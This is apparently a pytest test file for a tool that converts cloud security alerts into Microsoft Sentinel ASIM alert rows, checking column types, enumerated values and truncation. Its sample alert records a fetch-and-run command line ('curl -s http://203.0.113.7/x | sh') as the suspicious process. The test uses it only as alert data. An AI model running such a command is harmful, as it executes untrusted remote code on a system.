from __future__ import annotations

import ipaddress
import json
import re
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given

from schemas.alert import Alert, Subscription
from schemas.entities import Details, Entity
from schemas.formats import asim as module
from schemas.formats.asim import COLUMNS, asim, sentinel_row
from schemas.kinds import understand
from tests.examples import EXAMPLES, encoded
from tests.fidelity.measure import parsed
from tests.fixtures import RESOURCE, SUBSCRIPTION, defender_alert, hostile
from tests.strategies import alerts

# "ASimAlertEventLogs" (azure-monitor/reference/tables/asimalerteventlogs): its columns by type.
TABLE = {
    name: kind
    for kind, names in {
        "datetime": """TimeGenerated EventStartTime EventEndTime ThreatFirstReportedTime
            ThreatLastReportedTime""",
        "int": "EventCount RuleNumber ThreatConfidence ThreatRiskLevel",
        "bool": "ThreatIsActive",
        "dynamic": "AdditionalFields",
        "string": """AlertDescription AlertId AlertName AlertOriginalStatus AlertStatus AlertVerdict
            AttackRemediationSteps AttackTactics AttackTechniques DetectionMethod DvcAction
            DvcDescription DvcDomain DvcDomainType DvcFQDN DvcHostname DvcId DvcIdType DvcInterface
            DvcIpAddr DvcMacAddr DvcOriginalAction DvcOs DvcOsVersion DvcScope DvcScopeId DvcZone
            EmailMessageId EmailSubject EventMessage EventOriginalResultDetails
            EventOriginalSeverity EventOriginalSubType EventOriginalType EventOriginalUid EventOwner
            EventProduct EventProductVersion EventReportUrl EventResult EventResultDetails
            EventSchemaVersion EventSeverity EventSubType EventType EventUid EventVendor FileMD5
            FileName FilePath FileSHA1 FileSHA256 FileSize IndicatorAssociation IndicatorType
            OriginalUserType ProcessCommandLine ProcessFileCompany ProcessId ProcessName RegistryKey
            RegistryValue RegistryValueData RegistryValueType Rule RuleDescription RuleName
            ThreatCategory ThreatId ThreatName ThreatOriginalCategory ThreatOriginalConfidence
            ThreatOriginalRiskLevel Url User UserId UserIdType Username UsernameType UserScope
            UserScopeId UserSessionId UserType""",
    }.items()
    for name in names.split()
}
ALIASES = {  # of the schema; the table has no such columns, its parser adds them
    "EventSchema": "string",
    "Hostname": "string",
    "IpAddr": "string",
}
# "ASIM Alert schema reference": what must be there, and the values of what is enumerated.
MANDATORY = {
    *("TimeGenerated", "EventCount", "EventStartTime", "EventEndTime", "EventType", "EventUid"),
    *("EventProduct", "EventVendor", "EventSchema", "EventSchemaVersion", "EventResult"),
    "EventSeverity",
}
VALUES = {
    "EventType": {"Alert"},
    "EventSubType": {"Threat", "Suspicious Activity", "Anomaly", "Compliance Violation"},
    "EventSchema": {"AlertEvent"},
    "EventSchemaVersion": {"0.1"},
    "EventResult": {"Success", "Partial", "Failure", "NA"},
    "EventSeverity": {"Informational", "Low", "Medium", "High"},
    "AlertVerdict": {"True Positive", "False Positive", "Benign Positive", "Unknown"},
    "AlertStatus": {"Active", "Closed"},
    "DetectionMethod": {
        *("EDR", "Behavioral Analytics", "Reputation", "Threat Intelligence"),
        *("Intrusion Detection", "Automated Investigation", "Antivirus", "Data Loss Prevention"),
        *("User Defined Blocked List", "Cloud Security Posture Management"),
        *("Cloud Application Security", "Scheduled Alerts", "Other"),
    },
    "ThreatCategory": {
        *("Malware", "Ransomware", "Trojan", "Virus", "Worm", "Adware", "Spyware", "Rootkit"),
        *("Cryptominor", "Phishing", "Spam", "MaliciousUrl", "Spoofing"),
        *("Security Policy Violation", "Unknown"),
    },
    "IndicatorType": {
        *("Ip", "User", "Process", "Registry", "Url", "Host", "Cloud Resource", "Application"),
        *("File", "Email", "Mailbox", "Logon Session"),
    },
    "IndicatorAssociation": {"Associated", "Targeted"},
    "UserIdType": {"GUID", "SID", "Email", "Username", "Phone", "Other"},
    "UsernameType": {"UPN", "Windows", "DN", "Simple"},
    "DvcDomainType": {"Windows", "FQDN"},
    "DvcIdType": {
        *("AzureResourceId", "MDEid", "MD4IoTid", "VMConnectionId", "AwsVpcId", "VectraId"),
        *("AppGateId", "Other"),
    },
}
SAME = {  # alias → field
    "AlertId": "EventUid",
    "AlertDescription": "EventMessage",
    "Rule": "RuleName",
    "User": "Username",
    "Hostname": "DvcHostname",
    "IpAddr": "DvcIpAddr",
}
RESERVED = {"Title", "TenantId", "Type", "id", "UniqueId", "_ResourceId", "_SubscriptionId"}
TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")
PYTHON = {"int": int, "bool": bool, "string": str, "datetime": str}
KILOBYTES = 32 * 1024


def fits(kind: str, value: Any) -> None:
    if kind == "dynamic":
        assert isinstance(value, (dict, list))
        assert value
        assert len(msgspec.json.encode(value)) <= KILOBYTES
        return
    assert type(value) is PYTHON[kind]
    if kind == "datetime":
        assert TIME.fullmatch(value)
    elif kind == "string":
        assert value
        assert len(value.encode()) <= KILOBYTES


def check(row: dict[str, Any], columns: dict[str, str]) -> None:
    for name, value in row.items():
        fits(columns[name], value)
    assert not RESERVED & set(row)


def said(alert: Alert) -> dict[str, Any]:
    row: dict[str, Any] = json.loads(asim(alert))
    check(row, TABLE | ALIASES)
    for name, values in VALUES.items():
        assert row.get(name) in {None, *values}, name
    missing = MANDATORY - set(row)
    assert (
        not missing
        - ({"TimeGenerated"} if not alert.event_ms else set())
        - ({"EventStartTime", "EventEndTime"} if not (alert.start_ms or alert.event_ms) else set())
        - ({"EventUid"} if not alert.entity else set())
    )
    for alias, field in SAME.items():
        assert row.get(alias) == row.get(field), alias
    for id, kind in (("DvcId", "DvcIdType"), ("UserId", "UserIdType")):
        assert (id in row) == (kind in row)
    if "DvcIpAddr" in row:
        ipaddress.ip_address(row["DvcIpAddr"])
    return row


def own(alert: Alert) -> dict[str, Any]:
    row: dict[str, Any] = json.loads(sentinel_row(alert))
    check(row, COLUMNS)
    assert alert.raw.decode().startswith(row["RawEvent"])
    assert row["RawEventBytes"] == len(alert.raw)
    return row


def alert(**overrides: Any) -> Alert:
    made = understand(encoded(defender_alert()))
    made.subscription = Subscription(SUBSCRIPTION, "Shop", "ann@example.com", "production")
    return msgspec.structs.replace(made, **overrides)


def example(name: str, **overrides: Any) -> dict[str, Any]:
    return said(understand(encoded(EXAMPLES[name].record(**overrides))))


def test_a_row_of_the_alert_table() -> None:
    record = defender_alert()
    row = said(alert())
    additional = row.pop("AdditionalFields")
    assert row == {
        "TimeGenerated": "2026-03-04T10:13:14.987Z",
        "EventCount": 1,
        "EventStartTime": "2026-03-04T10:11:12.123Z",
        "EventEndTime": "2026-03-04T10:12:00.500Z",
        "EventType": "Alert",
        "EventSubType": "Threat",
        "EventResult": "NA",
        "EventSeverity": "High",
        "EventOriginalSeverity": "High",
        "EventOriginalType": "VM_SuspiciousDownload",
        "EventUid": record["SystemAlertId"],
        "EventMessage": record["Description"],
        "EventOwner": "ann@example.com",
        "EventProduct": "Microsoft Defender for Cloud",
        "EventVendor": "Microsoft",
        "EventSchema": "AlertEvent",
        "EventSchemaVersion": "0.1",
        "EventReportUrl": record["AlertUri"],
        "AlertId": record["SystemAlertId"],
        "AlertName": record["AlertDisplayName"],
        "AlertDescription": record["Description"],
        "AlertStatus": "Active",
        "AlertOriginalStatus": "New",
        "AttackTactics": "Persistence, Credential Access",
        "AttackRemediationSteps": "Ask the machine's owner.\nIsolate the machine.",
        "Rule": "VM_SuspiciousDownload",
        "RuleName": "VM_SuspiciousDownload",
        "IndicatorType": "Host",
        "IndicatorAssociation": "Targeted",
        "DvcScopeId": SUBSCRIPTION,
        "DvcScope": "Shop",
        "DvcHostname": "shop-vm-1",
        "Hostname": "shop-vm-1",
        "DvcId": RESOURCE,
        "DvcIdType": "AzureResourceId",
        "DvcIpAddr": "203.0.113.7",
        "IpAddr": "203.0.113.7",
        "Username": "SHOP-VM-1\\svc-web",
        "User": "SHOP-VM-1\\svc-web",
        "UsernameType": "Windows",
        "ProcessId": "8000",
        "ProcessName": "/usr/bin/curl",
        "ProcessCommandLine": "curl -s http://203.0.113.7/x | sh",
        "FileName": "curl",
        "FilePath": "/usr/bin/curl",
        "FileMD5": "0a" * 16,
    }
    assert additional["event_id"] == alert().event_id
    assert additional["kind"] == "defender_alert"
    assert additional["attributes"]["resource_type"] == "Virtual Machine"
    assert additional["subscription"] == {"owner": "ann@example.com", "environment": "production"}
    assert [it["type"] for it in additional["entities"]] == [
        *("host", "ip", "user", "process", "file"),
    ]


@pytest.mark.parametrize("name", EXAMPLES)
def test_every_kind_becomes_a_row_by_the_schema(name: str) -> None:
    row = example(name)
    assert row["AdditionalFields"]["kind"] == name
    posture = {"assessment", "sub_assessment", "secure_score", "regulatory_compliance"}
    if name in posture | {"attack_path"}:
        assert row["EventSubType"] == "Compliance Violation"


def test_a_line_of_a_log_has_no_subtype() -> None:
    row = example("windows_xml")
    assert "EventSubType" not in row
    assert row["EventOriginalType"] == "Microsoft-Windows-Security-Auditing/4625"
    assert row["EventResult"] == "Failure"


@pytest.mark.parametrize(
    ("name", "overrides", "field", "value"),
    [
        ("defender_alert", {"Severity": "Critical"}, "EventSeverity", "High"),
        ("defender_alert", {"Severity": "Odd"}, "EventSeverity", "Informational"),
        ("defender_alert", {"Status": "Dismissed"}, "AlertStatus", "Closed"),
        (
            "security_incident",
            {"Classification": "BenignPositive"},
            "AlertVerdict",
            "Benign Positive",
        ),
        ("graph_incident", {}, "AlertVerdict", "True Positive"),
        ("security_alert", {}, "DetectionMethod", "Scheduled Alerts"),
        ("graph_alert", {}, "DetectionMethod", "Antivirus"),
        ("assessment", {}, "DetectionMethod", "Cloud Security Posture Management"),
        ("graph_alert", {}, "DvcIdType", "MDEid"),
        ("graph_alert", {}, "DvcFQDN", "pc-1.corp.example"),
        ("graph_alert", {}, "UserIdType", "GUID"),
        ("security_event", {}, "UserIdType", "SID"),
        ("iot_alert", {}, "DvcIdType", "MD4IoTid"),
        ("iot_alert", {}, "DvcMacAddr", "00:00:5E:00:53:07"),
        ("iot_alert", {}, "DvcZone", "Packaging"),
        ("graph_alert_v1", {}, "ThreatCategory", "Trojan"),
        ("sub_assessment", {}, "DvcDescription", "shopimages"),
    ],
)
def test_values(name: str, overrides: dict[str, Any], field: str, value: str) -> None:
    assert example(name, **overrides)[field] == value


def test_a_row_of_a_table_of_ones_own() -> None:
    record = defender_alert()
    row = own(alert(enqueued_ms=1772619200000))
    assert list(row) == [name for name in COLUMNS if name in row] or set(row) <= set(COLUMNS)
    assert {name: row[name] for name in row if name not in ("Entities", "Attributes")} == {
        "TimeGenerated": "2026-03-04T10:13:14.987Z",
        "EventTime": "2026-03-04T10:13:14.987Z",
        "EnqueuedTime": "2026-03-04T10:13:20.000Z",
        "StartTime": "2026-03-04T10:11:12.123Z",
        "EndTime": "2026-03-04T10:12:00.500Z",
        "EventId": alert().event_id,
        "Kind": "defender_alert",
        "Nature": "alert",
        "EntityId": record["SystemAlertId"],
        "Version": alert().version,
        "AlertName": record["AlertDisplayName"],
        "AlertType": "VM_SuspiciousDownload",
        "Description": record["Description"],
        "Severity": "high",
        "SeverityOriginal": "High",
        "Status": "new",
        "StatusOriginal": "New",
        "Vendor": "Microsoft",
        "Product": "Microsoft Defender for Cloud",
        "AlertLink": record["AlertUri"],
        "Tactics": ["Persistence", "CredentialAccess"],
        "SubscriptionId": SUBSCRIPTION,
        "SubscriptionName": "Shop",
        "SubscriptionOwner": "ann@example.com",
        "SubscriptionEnvironment": "production",
        "ResourceName": "shop-vm-1",
        "ResourceIds": [RESOURCE],
        "Hosts": ["shop-vm-1"],
        "Users": ["SHOP-VM-1\\svc-web"],
        "IpAddresses": ["203.0.113.7"],
        "Hashes": ["0a" * 16],
        "RawEvent": encoded(record).decode(),
        "RawEventBytes": len(encoded(record)),
    }


def test_names_of_columns_are_as_the_service_wants_them() -> None:
    for name in {**COLUMNS, **TABLE, **ALIASES}:
        assert re.fullmatch(r"[A-Za-z][A-Za-z0-9_]{0,44}", name)
    assert not RESERVED & set(COLUMNS)
    assert set(COLUMNS.values()) <= {"datetime", "string", "int", "dynamic"}


@pytest.mark.parametrize("name", EXAMPLES)
def test_every_kind_becomes_a_row_of_ones_own(name: str) -> None:
    assert own(understand(encoded(EXAMPLES[name].record())))["Kind"] == name


def test_times_of_0_are_left_out() -> None:
    row = own(alert(event_ms=0, start_ms=0, end_ms=0))
    assert not {"TimeGenerated", "EventTime", "EnqueuedTime", "StartTime", "EndTime"} & set(row)
    row = said(alert(event_ms=0, start_ms=0, end_ms=0))
    assert not {"TimeGenerated", "EventStartTime", "EventEndTime"} & set(row)


@pytest.mark.parametrize(
    "text", ["x" * 40_000, "é" * 40_000, "\U0001f600" * 40_000, "\x01" * 40_000]
)
def test_a_long_field_is_cut_at_a_code_point(text: str) -> None:
    for row, field in (
        (said(alert(description=text)), "EventMessage"),
        (own(alert(description=text)), "Description"),
    ):
        kept = row[field]
        assert text.startswith(kept)
        assert KILOBYTES - 4 < len(kept.encode()) <= KILOBYTES


def test_a_long_record_is_cut_and_says_so() -> None:
    raw = encoded(defender_alert(Description="é" * 50_000))
    row = own(understand(raw))
    assert len(row["RawEvent"].encode()) <= KILOBYTES
    assert row["RawEventBytes"] == len(raw) > 100_000


def test_of_many_things_the_first_stay(monkeypatch: pytest.MonkeyPatch) -> None:
    many = tuple(
        Entity(type="ip", name=f"10.0.{n // 250}.{n % 250}", attributes={"note": "n" * 50})
        for n in range(5000)
    )
    known = Details(entities=many, attributes={f"name_{n}": "v" * 40 for n in range(2000)})
    monkeypatch.setattr(module, "details", lambda alert: known)
    row = own(alert())
    addresses = [it.name for it in many]
    assert row["IpAddresses"] == addresses[: len(row["IpAddresses"])]
    assert len(row["IpAddresses"]) > 2000
    assert len(row["Entities"]) > 200
    assert list(row["Attributes"])[:2] == ["name_0", "name_1"]
    additional = said(alert())["AdditionalFields"]
    assert additional["kind"] == "defender_alert"
    assert len(additional["attributes"]) > 400


def test_a_row_that_is_still_too_long_has_all_its_fields_cut() -> None:
    names = ("title", "description", "severity_original", "status_original", "product", "link")
    long = alert(**dict.fromkeys(names, "\x01" * 60_000), entity="\x01" * 60_000)
    for say in (asim, sentinel_row):
        assert 100_000 < len(say(long)) <= 1_000_000
    said(long)
    own(long)


@pytest.mark.parametrize("text", hostile())
def test_hostile_text_stays_text(text: str) -> None:
    row = said(alert(title=text, description=text, resource=text))
    assert (row["AlertName"], row["EventMessage"]) == (text, text)
    assert own(alert(title=text))["AlertName"] == text


@given(alerts())
def test_any_alert_becomes_rows_by_the_schema(alert: Alert) -> None:
    said(alert)
    own(alert)


def test_every_sample_becomes_rows_by_the_schema(shared: Path) -> None:
    for file in sorted((shared / "samples").glob("*/*")):
        for alert in parsed(file.read_bytes())[0]:
            said(alert)
            own(alert)
